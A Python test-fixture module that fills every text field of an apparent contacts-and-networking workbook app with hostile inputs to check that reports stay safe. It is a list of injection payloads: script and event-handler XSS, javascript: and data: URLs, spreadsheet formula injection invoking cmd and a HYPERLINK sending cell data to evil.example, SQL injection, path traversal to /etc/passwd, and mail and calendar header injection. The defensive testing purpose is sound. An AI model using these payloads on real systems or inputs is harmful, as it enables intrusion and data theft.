"""Texts that somebody hostile, or merely unlucky, puts into a field; and a whole workbook stuffed with them.

The fields are found in the schema, so a new one is covered without a change here.
"""

from __future__ import annotations

from collections.abc import Collection, Iterator
from datetime import date
from pathlib import Path
from typing import Annotated, Any, TypeVar, get_args, get_origin

from pydantic import AfterValidator
from pydantic.fields import FieldInfo

import netkit as nk
from netkit import records as r
from netkit.questions import Item, Plan, questions_of
from netkit.report import make
from netkit.report.scan import LeakError
from netkit.values import Model
from netkit.workbook.rows import LINKS, table_of

M = TypeVar("M", bound=Model)
DAY = date(2026, 3, 12)
RUN = "window.ran=1"  # what the scripts below would do: a mark that the browser's test looks for
OUT = "evil.example"  # where the links below would go

TEXTS = {
    "script": f"<script>{RUN}</script>",
    "script split": f"<scr<script></script>ipt>{RUN}</scr</script>ipt>",
    "script in a comment": f"<!--><script>{RUN}</script>-->",
    "handler": f'"><img src=x onerror="{RUN}">',
    "handler without spaces": f"<img/src=x/onerror={RUN}>",
    "handler in an attribute": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "end of everything": f"</title></style></textarea></svg></script><script>{RUN}</script>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data='javascript:{RUN}'></object>",
    "split frame": f"<ifr<iframe>ame srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "link": f"<a href='javascript:{RUN}' autofocus>Ines</a>",
    "address": f"javascript:{RUN}",
    "address of data": f"data:text/html,<script>{RUN}</script>",
    "css": f"<style>body{{display:none}} *{{background:url(https://{OUT}/css)}}</style>",
    "css value": f"red;background:url(//{OUT}/value);width:expression(alert(1))",
    "picture": f"<img src=https://{OUT}/picture><link rel=stylesheet href=//{OUT}/sheet>",
    "refresh": f"<meta http-equiv=refresh content='0;url=https://{OUT}/'><base href=//{OUT}/>",
    "form": f"<form action=https://{OUT}/><button autofocus>Sign in</button></form>",
    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &nosuch;",
    "template": "{{ 7*7 }} ${7*7} {% for x in y %} <%= 7*7 %> #{7*7} {0} {name} {{cookiecutter.x}}",
    "template that fails": "{% endautoescape %}{{ ''.__class__ }}{% raw %}",
    "format": "%s %d %n %(name)s {} {0.__class__} %%",
    "markdown": "# <b>Head</b>\n\n![x](https://evil.example/md) [x](javascript:alert(1)) `code` ***x*** |a|b|\n",
    "mathjax": r"$$\require{action}\toggle{x}{y}\endtoggle$$ \(x^2\) \[y\] $a$ \begin{equation}z\end{equation}",
    "bad math": r"costs $\frac{$ or \left( $}$",
    "right to left": "\u202eevil\u202c \u2067שלום\u2069 \u200fabc\u200e \u061c",
    "zero width": "In\u200bes\u200d Oka\u2060for\ufeff",
    "combining": "Z" + "\u0301\u0335\u0489" * 40,
    "wide": "W" * 400,
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "not a letter": "\ufffe\uffff\U0010ffff\ue000",
    "controls": "bell\x07 back\x08 form\x0c escape\x1b del\x7f next\x85 sub\x1a unit\x1f",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six\x0bseven",
    "spaces": "  in front and behind \t ",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula line": "\n=1+1",
    "formula wide": "＝1+1",
    "formula wide plus": "＋1+1",
    "formula wide minus": "－1+1",
    "formula wide at": "＠SUM(1+1)",
    "quoted": "'=1+1",
    "two quotes": "''",
    "quotes": '"\'`´""\\"',
    "delimiters": 'a,b;c\td|e"f"\n"g',
    "json": '["a", {"b": null}]',
    "sql": "Robert'); DROP TABLE person;--",
    "sql pattern": "%_\\ ' OR 1=1 -- /* */ ?1 :x",
    "path": "../../../../etc/passwd\\..\\C:\\con.txt/..",
    "long path": "a/" * 200,
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil\\, ;:\\n",
    "card": "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:evil\\, ;:\\n",
    "mail": "x\r\nBcc: everybody@evil.example\r\n\r\nFrom here",
    "expression": "(a+)+$ [A-Z] \\1 \\g<0> (?P<x>.)",
    "nothing much": "None null NaN undefined true 0 1e309",
}
NO_TEXT = {"nul": "Ada\0Quill", "surrogate": "Ada\ud800", "lone half": "\udc80", "too long": "x" * 1_000_001}
LONGEST = "<b>long</b> $$words$$ " * 45_000  # just below the million that a text may have


def is_any_text(field: FieldInfo) -> bool:
    """Whether a field takes any text (and so is no term, day or address)."""
    return field.annotation is str and not _is_checked(field.metadata)


def is_any_texts(field: FieldInfo) -> bool:
    """Whether a field is a list of any texts."""
    inner = _inner(field)
    return get_origin(inner) is Annotated and get_args(inner)[0] is str and not _is_checked(get_args(inner)[1:])


def _inner(field: FieldInfo) -> Any:
    return get_args(field.annotation)[0] if get_origin(field.annotation) is list else None


def _is_checked(metadata: Any) -> bool:
    return any(isinstance(part, AfterValidator) for part in metadata)


def free_fields(model: type[Model]) -> dict[str, FieldInfo]:
    """The fields of a model that hold no id."""
    links = {"id", *(name for name, asked in questions_of(model).items() if asked.kind in ("link", "links", "people"))}
    if issubclass(model, r.Record):
        links |= {*LINKS.get(table_of(model), {}), "people", "audience", "goal"}
    return {name: field for name, field in model.model_fields.items() if name not in links}


def stuffed(model: type[M], texts: Collection[str], **values: Any) -> M:
    """A model with all of the texts in every field that takes them: one below the other, or one for each in a list."""
    made: dict[str, Any] = {}
    for name, field in free_fields(model).items():
        kind = _inner(field) or field.annotation
        if is_any_text(field):
            made[name] = "\n".join(texts)
        elif is_any_texts(field):
            made[name] = list(texts)
        elif isinstance(kind, type) and issubclass(kind, Item):
            made[name] = [stuffed(kind, [text]) for text in texts]
        elif isinstance(kind, type) and issubclass(kind, Model):
            made[name] = stuffed(kind, texts)
    return model(**{**made, **values})


def stuffed_plan(texts: Collection[str]) -> Plan:
    """A plan with the texts everywhere, and what makes it whole: terms, numbers, days and links."""
    made = stuffed(Plan, texts)
    goals = [goal.changed(kind="knowledge", unit="other", number=3, by=DAY.replace(month=8)) for goal in made.why.goals]
    ids = [goal.id for goal in goals]
    audiences = [each.changed(goals=ids, kind="mentor", acquaintance="some") for each in made.who.audiences]
    when = {"number": 2, "per": "week", "next_on": DAY, "slot_day": "friday", "slot_time": "13:00", "review": "friday"}
    return made.changed(
        why=made.why.changed(goals=goals),
        who=made.who.changed(audiences=audiences),
        message=made.message.changed(goal=ids[0]),
        where=made.where.changed(scopes=["local"]),
        how=made.how.changed(mode="both", avenues=[each.changed(kind="coffee") for each in made.how.avenues]),
        when=made.when.changed(**when),
    )


def stuffed_records(text: str, goal: str = "", audience: str = "") -> Iterator[r.Record]:
    """A record of every table, some twice, so that every chart has something to show; the text is in every field."""
    usual: dict[str, Any] = {"audience": audience, "cadence_days": 14, "closeness": "close", "scope": "local"}
    own = ({"name": text + last, "source_key": text + last, "emails": [f"{text}@{r.new_id()}"]} for last in ("x", "y"))
    one, other = (stuffed(r.Person, [text], **usual, **each) for each in own)
    yield one
    yield other.changed(introduced_by=one.id)
    fair = stuffed(r.Event, [text], on=DAY, goal=goal)
    note = stuffed(r.Interaction, [text], on=DAY.replace(day=2), people=[one.id], channel="email")
    talk = stuffed(
        r.Interaction, [text], on=DAY.replace(day=9), people=[one.id, other.id], channel="in_person", outcome="met",
        event=fair.id, reply_to=note.id, source_key=f"{text} 2", minutes=30,
    )  # fmt: skip
    yield from (fair, note, talk)
    help: dict[str, Any] = {"on": DAY.replace(day=9), "kind": "advice", "value": 3, "interaction": talk.id}
    ways = ((one, "given", "delivered"), (other, "received", "delivered"), (other, "given", "accepted"))
    for person, direction, status in ways:
        yield stuffed(r.Exchange, [text], **help, person=person.id, direction=direction, status=status)
    yield stuffed(r.Action, [text], person=other.id, due_on=DAY)
    yield stuffed(r.Progress, [text], goal=goal, on=DAY, value=1)
    yield stuffed(r.SavedReport, [text], made_on=DAY, figures={text: [text]})
    yield r.Distinct(person=one.id, other=other.id)
    yield stuffed(r.ImportBatch, [text], made_on=DAY, mapping={text: text}, counts={text: 1}, skipped=[{text: text}])


def stuffed_workbook(path: Path, texts: Collection[str]) -> tuple[nk.Workbook, list[r.Record], Plan, r.Settings]:
    """A workbook with each of the texts in every field of every record, of the plan and of the settings."""
    book = nk.open_workbook(path, today=DAY)
    plan, settings = stuffed_plan(texts), stuffed(r.Settings, texts)
    links = [(goal.id, kind.id) for goal, kind in zip(plan.why.goals, plan.who.audiences, strict=True)]
    records = [each for text, link in zip(texts, links, strict=True) for each in stuffed_records(text, *link)]
    with book.change("Stuffed") as change:
        change.add_all(records)
        change.write_plan(plan)
        for name in free_fields(r.Settings):
            change.set(r.Settings(), name, getattr(settings, name), getattr(r.Settings(), name))
    return book, records, plan, settings


def once_allowed(book: nk.Workbook, level: str) -> str:
    """The report once all is allowed that it asks about: people are called as the owner writes."""
    for _ in range(4):
        try:
            return make(book, level).html
        except LeakError as leak:
            settings = book.settings()
            words = [*settings.allowed.get(level, []), *(hit.words for hit in leak.hits)]
            book.set(settings, "allowed", settings.allowed | {level: words}, settings.allowed)
    raise AssertionError("what was allowed is asked about again")
